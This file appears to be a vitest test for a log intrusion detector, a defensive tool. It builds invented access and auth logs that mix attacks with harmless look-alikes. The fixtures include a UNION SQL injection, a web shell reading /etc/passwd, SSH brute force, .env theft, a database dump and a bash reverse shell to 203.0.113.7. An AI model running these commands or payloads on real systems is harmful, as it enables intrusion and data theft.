@@ -1,0 +1,328 @@
+// Whole intrusions and what looks like them, on invented logs: each actor at its level, nobody else above noise.
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { expect, it } from 'vitest';
+import { listLogs, readLogs } from '../read-logs.ts';
+import { loadRules } from '../sigma/load-rules.ts';
+import { detectActors } from './detect-actors.ts';
+import type { Actor } from './detection.ts';
+
+const start = Date.UTC(2026, 9, 5);
+const HOUR = 3_600;
+const DAY = 24 * HOUR;
+const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
+const browser = 'Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0';
+
+type Line = { readonly at: number; readonly text: string };
+
+/** One request `at` seconds after the logs begin. */
+function request(at: number, client: string, line: string, status: number, size: number, agent = browser): Line {
+  const time = new Date(start + at * 1000);
+  const two = (value: number) => String(value).padStart(2, '0');
+  const day = `${two(time.getUTCDate())}/${months[time.getUTCMonth()]}/${time.getUTCFullYear()}`;
+  const clock = time.toISOString().slice(11, 19);
+  return { at, text: `${client} - - [${day}:${clock} +0000] "${line} HTTP/1.1" ${status} ${size} "-" "${agent}"` };
+}
+
+/** A line of the host's syslog. */
+function syslog(at: number, said: string): Line {
+  const time = new Date(start + at * 1000);
+  const day = String(time.getUTCDate()).padStart(2, ' ');
+  return { at, text: `${months[time.getUTCMonth()]} ${day} ${time.toISOString().slice(11, 19)} web1 ${said}` };
+}
+
+/** A small site on `days` days: pages whose sizes vary a little, searches, and a list that few read. */
+function ordinary(days: number, grows = (_at: number) => 1): Line[] {
+  const pages = ['/', '/about.html', '/form', '/news/1', '/news/2', '/news/3', '/style.css', '/logo.png'];
+  const lines: Line[] = [];
+  for (let i = 0; i < days * 400; i += 1) {
+    const at = Math.floor((i / 400) * DAY) + ((i * 37) % 120);
+    const client = `198.51.100.${1 + ((i * 7) % 90)}`;
+    const page = pages[(i * 5) % pages.length] ?? '/';
+    lines.push(request(at, client, `GET ${page}`, 200, Math.round((2_000 + page.length * 300 + (i % 40)) * grows(at))));
+    if (i % 10 === 0)
+      lines.push(
+        request(
+          at + 5,
+          client,
+          `GET /search?q=${['tea', 'green', 'cup', 'rice'][i % 4]}`,
+          200,
+          Math.round((3_000 + (i % 700)) * grows(at)),
+        ),
+      );
+    if (i % 25 === 0) lines.push(request(at + 9, client, 'POST /form', 302, 0));
+    if (i % 50 === 0) lines.push(request(at + 12, client, `GET /answers?id=${i % 3}`, 200, 900));
+  }
+  return lines;
+}
+
+const spread = (count: number, from: number, step: number, make: (i: number, at: number) => Line): Line[] =>
+  Array.from({ length: count }, (_, i) => make(i, from + i * step));
+
+async function judge(files: Readonly<Record<string, readonly Line[]>>): Promise<readonly Actor[]> {
+  const folder = mkdtempSync(join(tmpdir(), 'akashi-judgement-'));
+  try {
+    for (const [name, lines] of Object.entries(files)) {
+      const sorted = [...lines].sort((a, b) => a.at - b.at);
+      writeFileSync(join(folder, name), `${sorted.map(({ text }) => text).join('\n')}\n`);
+    }
+    const { store } = await readLogs(listLogs([folder]).inputs, { now: new Date('2026-11-22T00:00:00Z') });
+    try {
+      return (await detectActors(store, loadRules([]))).actors;
+    } finally {
+      await store.close();
+    }
+  } finally {
+    rmSync(folder, { recursive: true, force: true });
+  }
+}
+
+const levelOf = (actors: readonly Actor[], id: string) => {
+  const actor = actors.find((one) => one.id === id);
+  return actor ? `${actor.level} ${actor.success}` : 'not there';
+};
+
+const incidents: readonly {
+  readonly says: string;
+  readonly id: string;
+  readonly want: string;
+  readonly web?: readonly Line[];
+  readonly host?: readonly Line[];
+}[] = [
+  {
+    says: 'answers to injected SQL that the search never gave',
+    id: '203.0.113.1',
+    want: 'adverse shown',
+    web: spread(12, DAY, 20, (i, at) =>
+      request(
+        at,
+        '203.0.113.1',
+        `GET /search?q=x%27%20union%20select%20name,mail%20from%20people%20limit%20${i},50--%20`,
+        200,
+        48_000 + i * 91,
+      ),
+    ),
+  },
+  {
+    says: 'a script that was uploaded, then called',
+    id: '203.0.113.2',
+    want: 'adverse shown',
+    web: [
+      request(DAY + 60, '203.0.113.2', 'POST /upload.php', 200, 310),
+      request(DAY + 95, '203.0.113.2', 'GET /uploads/2026/a8f.php?c=id', 200, 54),
+      request(DAY + 120, '203.0.113.2', 'GET /uploads/2026/a8f.php?c=cat+/etc/passwd', 200, 1_840),
+    ],
+  },
+  {
+    says: 'thirty refusals at the login page, then another answer, then work as its user',
+    id: '203.0.113.3',
+    want: 'adverse shown',
+    web: [
+      ...spread(30, DAY, 4, (_, at) => request(at, '203.0.113.3', 'POST /admin/login', 200, 1_210)),
+      request(DAY + 130, '203.0.113.3', 'POST /admin/login', 302, 0),
+      request(DAY + 131, '203.0.113.3', 'GET /admin/', 200, 5_400),
+    ],
+  },
+  {
+    says: 'a password of the host guessed',
+    id: '203.0.113.4',
+    want: 'adverse shown',
+    host: [
+      ...spread(25, DAY, 5, (i, at) =>
+        syslog(at, `sshd[${3000 + i}]: Failed password for root from 203.0.113.4 port ${40_000 + i} ssh2`),
+      ),
+      syslog(DAY + 140, 'sshd[3100]: Accepted password for root from 203.0.113.4 port 41000 ssh2'),
+    ],
+  },
+  {
+    says: 'the settings of the site, handed out',
+    id: '203.0.113.5',
+    want: 'adverse shown',
+    web: [
+      request(DAY, '203.0.113.5', 'GET /.env', 200, 734),
+      request(DAY + 2, '203.0.113.5', 'GET /.git/config', 404, 196),
+    ],
+  },
+  {
+    says: 'every answer read out in one night',
+    id: '203.0.113.6',
+    want: 'notable possible',
+    web: spread(400, DAY + 2 * HOUR, 3, (i, at) =>
+      request(at, '203.0.113.6', `GET /answers?id=${i}`, 200, 900 + (i % 30)),
+    ),
+  },
+  {
+    says: 'new answers read out night after night are no habit',
+    id: '203.0.113.10',
+    want: 'notable possible',
+    web: [0, 1, 2].flatMap((day) =>
+      spread(100, day * DAY + 3 * HOUR, 5, (i, at) =>
+        request(at, '203.0.113.10', `GET /answers?id=${1_000 + day * 100 + i}`, 200, 900 + (i % 30)),
+      ),
+    ),
+  },
+  {
+    says: 'the web server looks round and dumps the database after an attack',
+    id: 'www-data',
+    want: 'adverse shown',
+    host: [
+      syslog(
+        DAY + 200,
+        'sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/usr/bin/mysqldump --all-databases',
+      ),
+      syslog(
+        DAY + 210,
+        'sudo: www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1',
+      ),
+    ],
+  },
+  {
+    says: 'a scanner that gets nothing',
+    id: '203.0.113.8',
+    want: 'notable none',
+    web: spread(150, DAY + HOUR, 1, (i, at) =>
+      request(
+        at,
+        '203.0.113.8',
+        `GET /${['cgi-bin', 'old', 'test', 'admin', 'db'][i % 5]}/${i}.php`,
+        404,
+        196,
+        'Mozilla/5.00 (Nikto/2.5.0)',
+      ),
+    ),
+  },
+  {
+    says: 'the probing that every server gets',
+    id: '203.0.113.9',
+    want: 'noise none',
+    web: ['/wp-login.php', '/.env', '/phpmyadmin/', '/boaform/admin'].map((path, i) =>
+      request(DAY + i, '203.0.113.9', `GET ${path}`, 404, 196, 'curl/8.0'),
+    ),
+  },
+];
+
+it('finds each intrusion at its level, at the actor who did it', { timeout: 120_000 }, async () => {
+  const actors = await judge({
+    'access.log': [...ordinary(3), ...incidents.flatMap(({ web }) => web ?? [])],
+    'auth.log': [
+      syslog(10, 'sshd[1]: Server listening on 0.0.0.0 port 22.'),
+      ...incidents.flatMap(({ host }) => host ?? []),
+    ],
+  });
+  expect(Object.fromEntries(incidents.map(({ says, id }) => [says, levelOf(actors, id)]))).toEqual(
+    Object.fromEntries(incidents.map(({ says, want }) => [says, want])),
+  );
+  const known = new Set(incidents.map(({ id }) => id));
+  expect(actors.filter(({ id, level }) => !known.has(id) && level !== 'noise').map(({ id }) => id)).toEqual([]);
+});
+
+const deploy = 2 * DAY;
+const innocents: readonly {
+  readonly says: string;
+  readonly id: string;
+  readonly worst: 'noise' | 'notable';
+  readonly web?: readonly Line[];
+  readonly host?: readonly Line[];
+}[] = [
+  {
+    says: 'a probe that is answered as everybody is since a deploy doubled the pages',
+    id: '203.0.113.21',
+    worst: 'noise',
+    web: [request(deploy + HOUR, '203.0.113.21', 'GET /search?q=%27%20or%201=1--', 200, 6_600)],
+  },
+  {
+    says: 'a monitoring robot',
+    id: '203.0.113.22',
+    worst: 'noise',
+    web: spread(2_000, 0, 120, (_, at) => request(at, '203.0.113.22', 'GET /health', 200, 2, 'UptimeRobot/2.0')),
+  },
+  {
+    says: 'staff who export the same list every day',
+    id: '203.0.113.23',
+    worst: 'noise',
+    web: [0, 1, 2, 3].flatMap((day) =>
+      spread(60, day * DAY + 9 * HOUR, 4, (i, at) =>
+        request(at, '203.0.113.23', `GET /list/export?page=${i}`, 200, 20_000 + i),
+      ),
+    ),
+  },
+  {
+    says: 'a password forgotten, then remembered',
+    id: '203.0.113.24',
+    worst: 'noise',
+    web: [
+      ...spread(4, DAY, 25, (_, at) => request(at, '203.0.113.24', 'POST /admin/login', 200, 1_210)),
+      request(DAY + 110, '203.0.113.24', 'POST /admin/login', 302, 0),
+    ],
+    host: [
+      ...spread(3, DAY, 12, (i, at) =>
+        syslog(at, `sshd[${4000 + i}]: Failed password for anna from 203.0.113.24 port ${42_000 + i} ssh2`),
+      ),
+      syslog(DAY + 50, 'sshd[4010]: Accepted password for anna from 203.0.113.24 port 42100 ssh2'),
+    ],
+  },
+  {
+    says: 'a content network through which many people come, some of whom mistype',
+    id: '203.0.113.25',
+    worst: 'noise',
+    web: spread(900, 0, 300, (i, at) =>
+      i % 9 === 0
+        ? request(at, '203.0.113.25', 'POST /login', i % 27 === 0 ? 200 : 302, i % 27 === 0 ? 1_210 : 0)
+        : request(at, '203.0.113.25', `GET /news/${i % 3}`, i % 50 === 0 ? 404 : 200, i % 50 === 0 ? 196 : 3_100),
+    ),
+  },
+  {
+    says: 'a client that offers three keys of which the last fits, all day',
+    id: '203.0.113.26',
+    worst: 'noise',
+    host: [
+      ...spread(40, HOUR, 600, (i, at) =>
+        syslog(
+          at,
+          `sshd[${5000 + i}]: Failed publickey for git from 203.0.113.26 port ${43_000 + i} ssh2: RSA SHA256:x`,
+        ),
+      ),
+      ...spread(40, HOUR + 1, 600, (i, at) =>
+        syslog(
+          at,
+          `sshd[${5000 + i}]: Accepted publickey for git from 203.0.113.26 port ${43_000 + i} ssh2: RSA SHA256:y`,
+        ),
+      ),
+    ],
+  },
+  {
+    says: 'a search robot that follows old links',
+    id: '203.0.113.27',
+    worst: 'noise',
+    web: spread(120, DAY, 60, (i, at) =>
+      request(
+        at,
+        '203.0.113.27',
+        `GET /archive/${2000 + i}.html`,
+        i % 4 === 0 ? 404 : 200,
+        i % 4 === 0 ? 196 : 2_500,
+        'Mozilla/5.0 (compatible; ExampleBot/1.0)',
+      ),
+    ),
+  },
+];
+
+it('holds nothing against those who only look like it', { timeout: 120_000 }, async () => {
+  const actors = await judge({
+    'access.log': [...ordinary(4, (at) => (at > deploy ? 2 : 1)), ...innocents.flatMap(({ web }) => web ?? [])],
+    'auth.log': [
+      syslog(10, 'sshd[1]: Server listening on 0.0.0.0 port 22.'),
+      ...innocents.flatMap(({ host }) => host ?? []),
+    ],
+  });
+  const over = actors.filter(
+    ({ level, id }) => level !== 'noise' && innocents.find((one) => one.id === id)?.worst !== level,
+  );
+  expect(
+    over.map(
+      (actor) =>
+        `${innocents.find(({ id }) => id === actor.id)?.says ?? actor.id}: ${actor.level} ${actor.classes.join(',')} ${actor.signs.map(({ id }) => id).join(',')}`,
+    ),
+  ).toEqual([]);
+});
